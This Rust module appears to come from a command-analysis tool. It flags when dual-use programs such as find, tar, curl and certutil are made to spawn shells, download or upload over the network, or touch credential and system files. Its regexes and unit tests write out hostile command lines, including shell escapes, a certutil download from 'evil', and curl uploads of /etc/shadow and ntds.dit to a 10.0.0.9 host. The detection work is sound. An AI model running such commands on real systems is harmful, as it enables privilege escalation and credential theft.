//! Dual-use programs (the GTFOBins and LOLBAS kind): what each can be made to do, and whether
//! this command asks it to. A name alone weighs nothing — `find`, `tar` and `certutil` run
//! all day on every fleet; `find … -exec /bin/sh`, `tar --checkpoint-action=exec` and
//! `certutil -urlcache -f http://…` do not.

use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::tokens::{Command, Tokens};

/// What a dual-use program can be asked to do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Capability {
    /// Spawn a shell or run a command.
    RunShell,
    /// Fetch a file from the network.
    Download,
    /// Send a file to the network.
    Upload,
    /// Read files the user should not.
    FileRead,
    /// Write files in places that run code or hold credentials.
    FileWrite,
    /// Run other code on its behalf (signed-binary proxy execution).
    Execute,
}

use Capability::*;

impl Capability {
    fn attack(self) -> &'static [&'static str] {
        match self {
            RunShell => &["T1059"],
            Download => &["T1105"],
            Upload => &["T1041", "T1048"],
            FileRead => &["T1005"],
            FileWrite => &["T1565"],
            Execute => &["T1218", "T1202"],
        }
    }

    fn weight(self) -> f32 {
        match self {
            RunShell => 0.55,
            Download => 0.4,
            Upload => 0.45,
            FileRead => 0.5,
            FileWrite => 0.55,
            Execute => 0.35,
        }
    }
}

/// Programs and what they can do (lower-case base names, Windows extensions removed).
const PROGRAMS: &[(&str, &[Capability])] = &[
    ("awk", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("gawk", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("mawk", &[RunShell, FileRead, FileWrite]),
    ("find", &[RunShell, FileWrite]),
    ("xargs", &[RunShell, FileRead]),
    ("vim", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("vi", &[RunShell, FileRead, FileWrite]),
    ("less", &[RunShell, FileRead, FileWrite]),
    ("more", &[RunShell, FileRead]),
    ("man", &[RunShell, FileRead]),
    ("perl", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("python", &[RunShell, FileRead, FileWrite, Upload, Download]),
    (
        "python2",
        &[RunShell, FileRead, FileWrite, Upload, Download],
    ),
    (
        "python3",
        &[RunShell, FileRead, FileWrite, Upload, Download],
    ),
    ("ruby", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("lua", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("node", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("php", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("tclsh", &[RunShell]),
    ("expect", &[RunShell]),
    ("tar", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("zip", &[RunShell]),
    ("git", &[RunShell, FileRead, FileWrite]),
    ("ftp", &[RunShell, Upload, Download]),
    ("gdb", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("nmap", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("env", &[RunShell]),
    ("strace", &[RunShell, FileWrite]),
    ("docker", &[RunShell, FileRead, FileWrite]),
    ("rsync", &[RunShell, FileRead, FileWrite, Upload, Download]),
    ("scp", &[RunShell, Upload, Download]),
    ("ssh", &[RunShell, Upload, Download]),
    ("socat", &[RunShell, Upload, Download, FileRead, FileWrite]),
    (
        "busybox",
        &[RunShell, Upload, Download, FileRead, FileWrite],
    ),
    ("script", &[RunShell]),
    ("screen", &[RunShell]),
    ("tmux", &[RunShell]),
    ("journalctl", &[RunShell]),
    ("systemctl", &[RunShell]),
    ("mysql", &[RunShell]),
    ("psql", &[RunShell]),
    ("sqlite3", &[RunShell, FileRead, FileWrite]),
    (
        "openssl",
        &[RunShell, Upload, Download, FileRead, FileWrite],
    ),
    ("ed", &[RunShell, FileRead, FileWrite]),
    ("emacs", &[RunShell, FileRead, FileWrite]),
    ("nano", &[RunShell, FileRead, FileWrite]),
    ("make", &[RunShell, FileWrite]),
    ("pip", &[RunShell, Download, Upload, FileRead, FileWrite]),
    ("gem", &[RunShell]),
    ("npm", &[RunShell]),
    ("apt", &[RunShell]),
    ("apt-get", &[RunShell]),
    ("yum", &[RunShell, Download]),
    ("dpkg", &[RunShell]),
    ("rpm", &[RunShell]),
    ("curl", &[Download, Upload, FileRead, FileWrite]),
    ("wget", &[Download, Upload, FileRead, FileWrite]),
    ("nc", &[RunShell, Upload, Download]),
    ("ncat", &[RunShell, Upload, Download]),
    ("netcat", &[RunShell, Upload, Download]),
    ("telnet", &[RunShell]),
    ("dd", &[FileRead, FileWrite]),
    ("cp", &[FileWrite]),
    ("mv", &[FileWrite]),
    ("tee", &[FileWrite]),
    ("cat", &[FileRead]),
    ("head", &[FileRead]),
    ("tail", &[FileRead]),
    ("base64", &[FileRead]),
    ("xxd", &[FileRead, FileWrite]),
    ("od", &[FileRead]),
    ("hexdump", &[FileRead]),
    ("strings", &[FileRead]),
    ("diff", &[FileRead]),
    ("sed", &[RunShell, FileRead, FileWrite]),
    ("sort", &[FileRead]),
    ("crontab", &[RunShell]),
    ("at", &[RunShell]),
    ("chroot", &[RunShell]),
    ("nohup", &[RunShell]),
    ("timeout", &[RunShell]),
    ("taskset", &[RunShell]),
    ("flock", &[RunShell]),
    ("ionice", &[RunShell]),
    ("nice", &[RunShell]),
    ("stdbuf", &[RunShell]),
    ("watch", &[RunShell]),
    ("capsh", &[RunShell]),
    ("setarch", &[RunShell]),
    ("unshare", &[RunShell]),
    ("nsenter", &[RunShell]),
    ("kubectl", &[RunShell, Upload, Download]),
    // Windows (LOLBAS)
    ("certutil", &[Download, Execute, FileWrite]),
    ("bitsadmin", &[Download, Execute]),
    ("mshta", &[Execute, Download]),
    ("rundll32", &[Execute]),
    ("regsvr32", &[Execute, Download]),
    ("msiexec", &[Execute, Download]),
    ("msbuild", &[Execute]),
    ("installutil", &[Execute]),
    ("regasm", &[Execute]),
    ("regsvcs", &[Execute]),
    ("cmstp", &[Execute]),
    ("wmic", &[Execute, RunShell]),
    ("forfiles", &[RunShell, Execute]),
    ("pcalua", &[Execute]),
    ("conhost", &[Execute]),
    ("esentutl", &[FileRead, FileWrite, Download]),
    ("expand", &[Download, FileWrite]),
    ("extrac32", &[Download, FileWrite]),
    ("findstr", &[Download, FileRead]),
    ("hh", &[Execute, Download]),
    ("ieexec", &[Execute, Download]),
    ("makecab", &[FileWrite]),
    ("odbcconf", &[Execute]),
    ("reg", &[FileWrite, FileRead]),
    ("regedit", &[FileWrite]),
    ("replace", &[Download, FileWrite]),
    ("sc", &[Execute]),
    ("schtasks", &[Execute]),
    ("xcopy", &[FileWrite]),
    ("bash", &[RunShell]),
    ("wsl", &[RunShell, Execute]),
    ("cscript", &[Execute]),
    ("wscript", &[Execute]),
    ("msdt", &[Execute]),
    ("control", &[Execute]),
    ("cmd", &[RunShell]),
    ("powershell", &[RunShell, Download]),
    ("pwsh", &[RunShell, Download]),
    ("desktopimgdownldr", &[Download]),
    ("mpcmdrun", &[Download]),
    ("diantz", &[FileWrite]),
    ("print", &[FileWrite]),
    ("ntdsutil", &[FileRead]),
    ("vssadmin", &[FileRead]),
    ("diskshadow", &[Execute, FileRead]),
    ("msxsl", &[Execute]),
    ("cdb", &[Execute]),
    ("dnscmd", &[Execute]),
    ("finger", &[Download]),
    ("tftp", &[Download, Upload]),
];

static SPAWNS_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?i)/bin/(?:ba|z|da|k)?sh\b|\b(?:ba|z|da)?sh\s+-[ci]\b|\bcmd(?:\.exe)?\s+/[ck]|powershell|\bos\.(?:system|exec\w*|spawn\w*|popen)|\bsystem\s*\(|\bexec(?:ve)?\s*\(|pty\.spawn|io\.popen|child_process|spawn\s*\(|(?:^|\s)-exec\b|--exec\b|checkpoint-action=exec|--to-command|--use-compress-program|-o\s*proxycommand|-o\s*localcommand|!\s*/bin|:!\S|\bsh\b\s*$|^\s*sh\s*$|-e\s+['"]?(?:exec|system)"#,
    )
});
static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?i)\b(?:https?|ftps?|tftp)://|\\\\[\w.-]+\\|(?:^|\s)(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:\s|$)"#,
    )
});
static UPLOADS: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?:^|\s)(?:-T|--upload-file|-F|--form|--data-binary|--post-file|--post-data|-d\s*@|(?i:put|post|send)\b)"#,
    )
});
static SENSITIVE_READ: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?i)/etc/(?:shadow|gshadow|sudoers)|/root/|\.ssh/|\.aws/|\.kube/|\\config\\(?:sam|system|security)|ntds\.dit|\.bash_history|/proc/\d+/|id_rsa|\.gnupg|private\.key|\.pem\b"#,
    )
});
static SENSITIVE_WRITE: LazyLock<Regex> = LazyLock::new(|| {
    crate::re::fixed(
        r#"(?i)/etc/(?:passwd|shadow|sudoers|cron|profile|ld\.so|systemd|init\.d|rc\.local|ssh)|authorized_keys|\.bashrc|\.profile|/usr/(?:local/)?s?bin/|/lib/|\\system32\\|\\syswow64\\|\\startup\\|\\currentversion\\run|:\w+\.(?:exe|dll|js|vbs)\b"#,
    )
});

/// A dual-use program asked to use one of its capabilities.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct DualUse {
    pub program: String,
    pub capability: Capability,
    pub attack: &'static [&'static str],
    pub weight: f32,
    /// The command, as words.
    pub evidence: String,
}

/// The capabilities the commands of `tokens` are asked to use.
pub fn assess(tokens: &Tokens) -> Vec<DualUse> {
    let mut out: Vec<DualUse> = Vec::new();
    for c in tokens.commands.iter().take(64) {
        let Some((_, caps)) = PROGRAMS.iter().find(|(n, _)| *n == c.exe) else {
            continue;
        };
        let args = c.args.join(" ");
        for &cap in *caps {
            if asked(cap, c, &args, tokens)
                && !out
                    .iter()
                    .any(|d| d.program == c.exe && d.capability == cap)
            {
                out.push(DualUse {
                    program: c.exe.clone(),
                    capability: cap,
                    attack: cap.attack(),
                    weight: cap.weight(),
                    evidence: excerpt(c),
                });
            }
        }
    }
    out
}

fn asked(cap: Capability, c: &Command, args: &str, tokens: &Tokens) -> bool {
    match cap {
        // A shell program asked for a shell is just a shell; others spawning one is the trick.
        RunShell => {
            !matches!(c.exe.as_str(), "bash" | "cmd" | "powershell" | "pwsh")
                && SPAWNS_SHELL.is_match(args)
        }
        Download => NETWORK.is_match(args) && !UPLOADS.is_match(args),
        Upload => NETWORK.is_match(args) && UPLOADS.is_match(args),
        FileRead => SENSITIVE_READ.is_match(args),
        FileWrite => {
            SENSITIVE_WRITE.is_match(args)
                || tokens
                    .redirections
                    .iter()
                    .any(|r| SENSITIVE_WRITE.is_match(r))
        }
        Execute => {
            !c.args.is_empty()
                && (NETWORK.is_match(args)
                    || args.contains(',')
                    || args.to_ascii_lowercase().contains(".dll")
                    || args.contains("/c"))
        }
    }
}

fn excerpt(c: &Command) -> String {
    let mut s = c.exe.clone();
    for a in &c.args {
        if s.len() > 150 {
            s.push_str(" …");
            break;
        }
        s.push(' ');
        s.push_str(a);
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Shell;
    use crate::tokens::tokenize;

    fn caps(text: &str, shell: Shell) -> Vec<(String, Capability)> {
        assess(&tokenize(text, shell))
            .into_iter()
            .map(|d| (d.program, d.capability))
            .collect()
    }

    #[test]
    fn the_use_not_the_name_counts() {
        assert!(caps("find . -name '*.rs'", Shell::Sh).is_empty());
        assert_eq!(
            caps("find . -exec /bin/sh \\; -quit", Shell::Sh),
            [("find".to_string(), RunShell)]
        );
        assert!(caps("tar -czf a.tgz src", Shell::Sh).is_empty());
        assert!(
            caps(
                "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
                Shell::Sh
            )
            .contains(&("tar".to_string(), RunShell))
        );
        assert!(caps("certutil -hashfile a.exe SHA256", Shell::Cmd).is_empty());
        assert!(
            caps(
                "certutil.exe -urlcache -f http://evil/x.exe x.exe",
                Shell::Cmd
            )
            .contains(&("certutil".to_string(), Download))
        );
        assert!(
            caps("curl -T /etc/shadow http://10.0.0.9/up", Shell::Sh)
                .contains(&("curl".to_string(), Upload))
        );
        // Windows's own curl is curl.
        assert!(
            caps(
                r"curl.exe -T C:\\Windows\\NTDS\\ntds.dit ftp://10.0.0.9/",
                Shell::Cmd
            )
            .contains(&("curl".to_string(), Upload))
        );
        assert!(caps("cat /etc/shadow", Shell::Sh).contains(&("cat".to_string(), FileRead)));
        assert!(
            caps("echo x | tee -a /etc/sudoers", Shell::Sh)
                .contains(&("tee".to_string(), FileWrite))
        );
    }
}
